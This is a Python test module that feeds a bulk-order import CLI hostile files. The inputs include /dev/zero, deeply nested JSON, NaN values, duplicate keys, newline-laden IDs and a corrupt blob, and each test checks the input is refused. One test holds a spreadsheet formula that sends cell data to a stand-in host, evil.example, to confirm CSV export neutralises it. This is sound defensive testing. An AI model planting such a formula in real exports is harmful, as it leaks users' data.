"""A hostile file (and hostile values): what a user, or whoever wrote the file they were
given, can feed ``bulkorder import``, ``create --items``, ``add`` and the Python API.

Every CLI case runs ``.venv/bin/bulkorder`` in a separate process against the real stack
(the Temporal dev server, the test's worker, the SQLite event store and the blob folder),
asserts the exit code and the message, and checks in the event store that nothing was
recorded. Bombs are measured in that process: its peak RSS (``wait4``) against the same
command on a small valid file.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import random
import re
import subprocess
import sys
import tempfile
import time
import uuid
from pathlib import Path
from typing import Any, Mapping

import pytest

from bulkorder.domain.identifiers import InvalidIdentifierError, check_order_id
from bulkorder.domain.items import MAX_LINE_TOTAL, MAX_ORDER_QUANTITY, MAX_ORDER_TOTAL, ItemValidationError, validate_item_dict, validate_item_dicts
from bulkorder.domain.sample_items import generate_items
from tests.adversarial.report import MAX_BOMB_GROWTH_BYTES, AttackLine, report
from tests.cli.helpers import CliResult, stack_env
from bulkorder.storage.folder_store import FolderBlobStore
from tests.fixtures.orders import OrderStack
from bulkorder.importer import fast_items

BULKORDER = str(Path(sys.executable).parent / "bulkorder")


@pytest.fixture
def env(order_stack: OrderStack, temporal_address: str, tmp_path: Path, event_store_env: Mapping[str, str]) -> dict[str, str]:
    """The environment of a CLI process sharing the test's worker, blobs and event store."""
    return stack_env(order_stack.task_queue, temporal_address, tmp_path, event_store_env)


def _run_measured(args: list[str], env: Mapping[str, str], timeout: float) -> tuple[CliResult, int, float]:
    """``bulkorder ARGS``: its result, its peak RSS (bytes, from wait4) and seconds taken."""
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        started = time.monotonic()
        process = subprocess.Popen([BULKORDER, *args], env=dict(env), stdout=out, stderr=err)
        deadline = started + timeout
        while True:
            pid, status, usage = os.wait4(process.pid, os.WNOHANG)
            if pid:
                break
            if time.monotonic() > deadline:
                process.kill()
                pid, status, usage = os.wait4(process.pid, 0)
                break
            time.sleep(0.02)
        seconds = time.monotonic() - started
        process.returncode = os.waitstatus_to_exitcode(status)
        out.seek(0)
        err.seek(0)
        result = CliResult(process.returncode, out.read().decode(), err.read().decode())
    return result, usage.ru_maxrss * 1024, seconds


async def cli(*args: str, env: Mapping[str, str], timeout: float = 180) -> CliResult:
    result, _, _ = await asyncio.to_thread(_run_measured, list(args), env, timeout)
    return result


async def cli_measured(*args: str, env: Mapping[str, str], timeout: float = 180) -> tuple[CliResult, int, float]:
    return await asyncio.to_thread(_run_measured, list(args), env, timeout)


def new_order_id() -> str:
    """A new order's name (customer/reference)."""
    return f"c-1/adv-{uuid.uuid4().hex[:10]}"


def ref_of(order_id: str) -> str:
    """The reference part of a name (``bulkorder create REFERENCE --customer C``)."""
    return order_id.rpartition("/")[2]


def item_json(index: int = 0, **changes: Any) -> str:
    item = next(generate_items(1, start=index))
    item.update(changes)
    return json.dumps(item)


def write_lines(path: Path, lines: list[str]) -> Path:
    path.write_text("".join(line + "\n" for line in lines))
    return path


def refused(result: CliResult) -> str:
    """The first line of the error, for the ATTACK line."""
    line = (result.stderr.strip().splitlines() or [""])[-1].split(": error: ", 1)[-1]
    line = re.sub(r"/tmp/\S+/", "", line)  # the test's own folder says nothing
    return "refused, exit 2: " + (line if len(line) <= 100 else line[:97] + "...")


# ---- bombs -----------------------------------------------------------------------------


async def test_dev_zero_fails_fast_with_file_line_and_limit(env: dict[str, str], order_stack: OrderStack, tmp_path: Path) -> None:
    small = write_lines(tmp_path / "small.ndjson", [item_json(i) for i in range(10)])
    baseline, baseline_rss, _ = await cli_measured("import", new_order_id(), str(small), "--create", "--customer", "c-1", "--quiet", env=env)
    assert baseline.code == 0, baseline.stderr

    order_id = new_order_id()
    result, rss, seconds = await cli_measured(
        "import", order_id, "/dev/zero", "--format", "ndjson", "--create", "--customer", "c-1", "--quiet", env=env, timeout=60
    )
    assert result.code == 2, result.stderr
    assert "/dev/zero line 1: the line is longer than 1,048,576 bytes, the limit" in result.stderr
    assert "--max-line-bytes" in result.stderr and "Traceback" not in result.stderr
    assert seconds < 30
    growth = rss - baseline_rss
    assert growth < MAX_BOMB_GROWTH_BYTES, f"peak RSS {rss / 2**20:.0f} MiB vs {baseline_rss / 2**20:.0f} MiB for a small file"
    assert not order_stack.orders.exists(order_id)

    # The limit is the user's to set: a smaller one stops at the first line past it.
    limited = write_lines(tmp_path / "limited.ndjson", [item_json(0), item_json(1, name="x" * 1_200)])
    small_limit = await cli("import", new_order_id(), str(limited), "--create", "--customer", "c-1", "--max-line-bytes", "1000", env=env)
    assert small_limit.code == 2 and "line 2: the line is longer than 1,000 bytes" in small_limit.stderr
    report(AttackLine("hostile file", "import /dev/zero --format ndjson", refused(result) + f" in {seconds:.1f} s", max(growth, 0)))


@pytest.mark.parametrize("shape", ["arrays", "objects"])
async def test_ten_thousand_levels_of_nesting_are_that_lines_problem(
    env: dict[str, str], order_stack: OrderStack, tmp_path: Path, shape: str
) -> None:
    deep = "[" * 10_000 + "]" * 10_000 if shape == "arrays" else '{"a":' * 10_000 + "1" + "}" * 10_000
    path = write_lines(tmp_path / "deep.ndjson", [item_json(0), deep, item_json(1)])
    order_id = new_order_id()
    result = await cli("import", order_id, str(path), "--create", "--customer", "c-1", "--quiet", env=env)
    assert result.code == 2, result.stderr
    assert f"{path} line 2: not valid JSON: nested 10,000 levels deep; at most 32 are allowed" in result.stderr
    assert "Traceback" not in result.stderr and "RecursionError" not in result.stderr
    assert not order_stack.orders.exists(order_id)

    rejects = tmp_path / "rejects.ndjson"
    skipped = await cli(
        "import", order_id, str(path), "--create", "--customer", "c-1", "--quiet", "--skip-invalid", str(rejects), "--json", env=env
    )
    assert skipped.code == 0, skipped.stderr
    assert (skipped.json()["items"], skipped.json()["rejected"]) == (2, 1)
    (entry,) = [json.loads(line) for line in rejects.read_text().splitlines()]
    assert entry["line"] == 2 and "nested 10,000 levels deep" in entry["reason"]
    assert order_stack.orders.get_order(order_id).item_count == 2

    array = tmp_path / "deep.json"
    array.write_text("[" + item_json(0) + ",\n" + deep + "]")
    in_array = await cli("import", new_order_id(), str(array), "--create", "--customer", "c-1", "--quiet", env=env)
    assert in_array.code == 2 and "line 2: not valid JSON: nested 10,000 levels deep" in in_array.stderr
    for command in (["create", ref_of(new_order_id()), "--customer", "c-1", "--items", str(path)],):
        created = await cli(*command, env=env)
        assert created.code == 2 and "line 2: not valid JSON: nested 10,000 levels deep" in created.stderr
        assert not order_stack.orders.exists(command[1])
    report(AttackLine("hostile file", f"10,000 levels of nested {shape} (import, --skip-invalid, create)", refused(result)))


# ---- values: NaN and Infinity, duplicate keys, IDs, sums past the bounds ---------------


@pytest.mark.parametrize("token", ["NaN", "Infinity", "-Infinity", "1e999"])
async def test_nan_and_infinity_are_refused_on_every_path(
    env: dict[str, str], order_stack: OrderStack, tmp_path: Path, token: str
) -> None:
    line = item_json(1, attributes={"ratio": 1}).replace('"ratio": 1', f'"ratio": {token}')
    path = write_lines(tmp_path / "nan.ndjson", [item_json(0), line])
    order_id = new_order_id()
    imported = await cli("import", order_id, str(path), "--create", "--customer", "c-1", "--quiet", env=env)
    assert imported.code == 2 and f"{path} line 2" in imported.stderr and "not valid JSON" in imported.stderr
    assert not order_stack.orders.exists(order_id)

    table = tmp_path / "nan.csv"
    table.write_text(f"sku,quantity,unit_price_amount,unit_price_currency,name,attr.ratio:json\nA,1,1,EUR,a,1\nB,1,1,EUR,b,{token}\n")
    from_csv = await cli("import", order_id, str(table), "--create", "--customer", "c-1", "--quiet", env=env)
    assert from_csv.code == 2 and f"{table} line 3: attributes.ratio: not a JSON value" in from_csv.stderr
    float_column = tmp_path / "nan-float.csv"
    float_column.write_text(f"sku,quantity,unit_price_amount,unit_price_currency,name,attr.ratio:float\nB,1,1,EUR,b,{token}\n")
    from_float = await cli("import", order_id, str(float_column), "--create", "--customer", "c-1", "--quiet", env=env)
    assert from_float.code == 2 and "attributes.ratio" in from_float.stderr

    created = await cli("create", ref_of(order_id), "--customer", "c-1", "--items", str(path), env=env)
    assert created.code == 2 and f"{path} line 2: not valid JSON" in created.stderr
    assert not order_stack.orders.exists(order_id)
    assert (await cli("create", ref_of(order_id), "--customer", "c-1", env=env)).code == 0
    added = await cli("add", order_id, str(path), env=env)
    assert added.code == 2 and "line 2: not valid JSON" in added.stderr
    assert order_stack.orders.get_order(order_id).item_count == 0

    # The Python API and the fast decoder.
    value = {"NaN": float("nan"), "Infinity": float("inf"), "-Infinity": float("-inf"), "1e999": float("inf")}[token]
    item = next(generate_items(1))
    item["attributes"] = {"ratio": value}
    with pytest.raises(ItemValidationError, match="NaN and Infinity are refused"):
        validate_item_dict(item)
    with pytest.raises(ItemValidationError, match="NaN and Infinity are refused"):
        validate_item_dicts([item])
    assert fast_items.convert([item]) is None
    assert fast_items.decode_records([line.encode()]) is None
    report(AttackLine("hostile file", f"{token} in NDJSON, CSV :json/:float, create, add, API", refused(imported)))


async def test_a_duplicate_key_is_refused_not_last_wins(env: dict[str, str], order_stack: OrderStack, tmp_path: Path) -> None:
    # The second "amount" would win with json.loads: a price the file's first reader never saw.
    line = item_json(1, unit_price={"amount": 100, "currency": "EUR"}).replace('"amount": 100', '"amount": 100, "amount": 1')
    path = write_lines(tmp_path / "dup.ndjson", [item_json(0), line])
    order_id = new_order_id()
    imported = await cli("import", order_id, str(path), "--create", "--customer", "c-1", "--quiet", env=env)
    assert imported.code == 2 and f"{path} line 2: not valid JSON: the key 'amount' appears twice in one object" in imported.stderr
    created = await cli("create", ref_of(order_id), "--customer", "c-1", "--items", str(path), env=env)
    assert created.code == 2 and "line 2: not valid JSON: the key 'amount' appears twice" in created.stderr
    array = tmp_path / "dup.json"
    array.write_text("[" + item_json(0) + ",\n" + line + "]")
    in_array = await cli("import", order_id, str(array), "--create", "--customer", "c-1", "--quiet", env=env)
    assert in_array.code == 2 and "line 2: not valid JSON: the key 'amount' appears twice" in in_array.stderr
    assert not order_stack.orders.exists(order_id)
    assert fast_items.decode_records([line.encode()]) is None
    report(AttackLine("hostile file", "duplicate key (\"amount\" twice) in import, create, JSON array", refused(imported)))


async def test_an_order_id_with_a_trailing_newline_is_refused(env: dict[str, str], order_stack: OrderStack, tmp_path: Path) -> None:
    result = await cli("create", "o-nl\n", "--customer", "c-1", env=env)
    assert result.code == 2 and "order reference 'o-nl\\n' is invalid" in result.stderr
    customer = await cli("create", ref_of(new_order_id()), "--customer", "c-1\n", env=env)
    assert customer.code == 2 and "customer ID 'c-1\\n' is invalid" in customer.stderr
    with pytest.raises(InvalidIdentifierError):
        check_order_id("o-nl\n")
    assert not order_stack.orders.exists("c-1/o-nl")
    sku = item_json(0).replace('"sku": "', '"sku": "X\\n', 1)
    path = write_lines(tmp_path / "sku.ndjson", [sku])
    imported = await cli("import", new_order_id(), str(path), "--create", "--customer", "c-1", "--quiet", env=env)
    assert imported.code == 2 and "line 1: sku: String should match pattern" in imported.stderr
    report(AttackLine("hostile file", "order ID 'o-nl\\n', customer 'c-1\\n', SKU 'X\\n...'", refused(result)))


async def test_quantities_and_prices_at_the_domains_bounds_are_refused_at_add_time(
    env: dict[str, str], order_stack: OrderStack, tmp_path: Path
) -> None:
    rng = random.Random(15)
    items = []
    for index in range(3_000):
        item = next(generate_items(1, start=index))
        item["quantity"] = rng.randint(1, 10**9)
        item["unit_price"] = {"amount": rng.randint(0, 10**15), "currency": "EUR"}
        items.append(item)
    # The first item whose line total, or the running sums, pass the bounds (computed here).
    quantity = total = 0
    first_bad = None
    for number, item in enumerate(items, start=1):
        line_total = item["quantity"] * item["unit_price"]["amount"]
        quantity, total = quantity + item["quantity"], total + line_total
        if line_total > MAX_LINE_TOTAL or quantity > MAX_ORDER_QUANTITY or total > MAX_ORDER_TOTAL:
            first_bad = number
            break
    assert first_bad is not None
    path = write_lines(tmp_path / "bounds.ndjson", [json.dumps(item) for item in items])
    order_id = new_order_id()
    started = time.monotonic()
    result = await cli("import", order_id, str(path), "--create", "--customer", "c-1", "--quiet", env=env)
    assert result.code == 2, result.stderr
    assert f"{path} line {first_bad}: quantity: the line total quantity x unit_price.amount" in result.stderr
    assert "exceeds the limit MAX_LINE_TOTAL = 1,000,000,000,000,000,000" in result.stderr
    assert time.monotonic() - started < 60
    assert not order_stack.orders.exists(order_id)
    created = await cli("create", ref_of(order_id), "--customer", "c-1", "--items", str(path), env=env)
    assert created.code == 2 and "MAX_LINE_TOTAL" in created.stderr and not order_stack.orders.exists(order_id)
    report(AttackLine("hostile file", "3,000 items, quantity <= 10^9 x amount <= 10^15", refused(result)))


# ---- outputs and read models ----------------------------------------------------------


async def test_a_formula_in_a_name_is_neutralised_in_csv_and_exact_in_ndjson(
    env: dict[str, str], order_stack: OrderStack, tmp_path: Path
) -> None:
    formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"invoice\")"
    names = [formula, "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR", "plain name"]
    lines = [item_json(i, name=name) for i, name in enumerate(names)]
    path = write_lines(tmp_path / "formula.ndjson", lines)
    order_id = new_order_id()
    imported = await cli("import", order_id, str(path), "--create", "--customer", "c-1", "--quiet", env=env)
    assert imported.code == 0, imported.stderr
    out_csv, out_ndjson = tmp_path / "items.csv", tmp_path / "items.ndjson"
    for target in (out_csv, out_ndjson):
        replayed = await cli("replay", order_id, "--version", "2", "--items-out", str(target), env=env)
        assert replayed.code == 0, replayed.stderr
    rows = list(csv.DictReader(io.StringIO(out_csv.read_bytes().decode(), newline="")))
    assert [row["name"] for row in rows] == ["'" + name for name in names[:-1]] + ["plain name"]
    assert [json.loads(line)["name"] for line in out_ndjson.read_text().splitlines()] == names
    report(AttackLine("hostile file", "names starting = + - @ TAB CR, exported as CSV", "neutralised: \"'=HYPERLINK(...\"; NDJSON exact"))


async def test_one_corrupt_blob_among_good_ones_is_skipped_and_reported(
    env: dict[str, str], order_stack: OrderStack, tmp_path: Path
) -> None:
    order_id = new_order_id()
    path = write_lines(tmp_path / "items.ndjson", [item_json(i) for i in range(30)])
    imported = await cli("import", order_id, str(path), "--create", "--customer", "c-1", "--batch-size", "10", "--quiet", env=env)
    assert imported.code == 0, imported.stderr
    blobs = FolderBlobStore(tmp_path / "blobs")
    keys = sorted(blobs.iter_keys("batches/"))
    assert len(keys) == 3, keys  # the import's three batches
    victim = keys[1]
    # A bucket writer's bytes under the batch's key (the store itself refuses to write them).
    blobs.path_for(victim).write_bytes(b"\x28\xb5\x2f\xfd" + os.urandom(4096))  # zstd magic, then noise

    projected = await cli("project", env=env)
    assert projected.code == 0, projected.stderr
    text = await cli("report", env=env)
    assert text.code == 0 and "skipped 1 batches the read model could not count" in text.stdout and order_id in text.stdout
    as_json = await cli("report", "--json", env=env)
    document = json.loads(as_json.stdout)
    assert document["skipped_batches"]["count"] == 1 and document["skipped_batches"]["by_order"] == {order_id: 1}
    assert document["position"] == document["log_position"]
    (row,) = [row for row in document["orders"] if row["order_id"] == order_id]
    assert row["item_count"] == 30  # the record says 30; the SKU table counts the 20 it could read
    assert sum(sku["lines"] for sku in document["skus"]) == 20
    again = await cli("project", env=env)
    assert again.code == 0 and "processed 0 events" in again.stdout
    report(AttackLine("bucket writer", "one corrupt blob among three, then `project`", "skipped and listed; position advanced"))
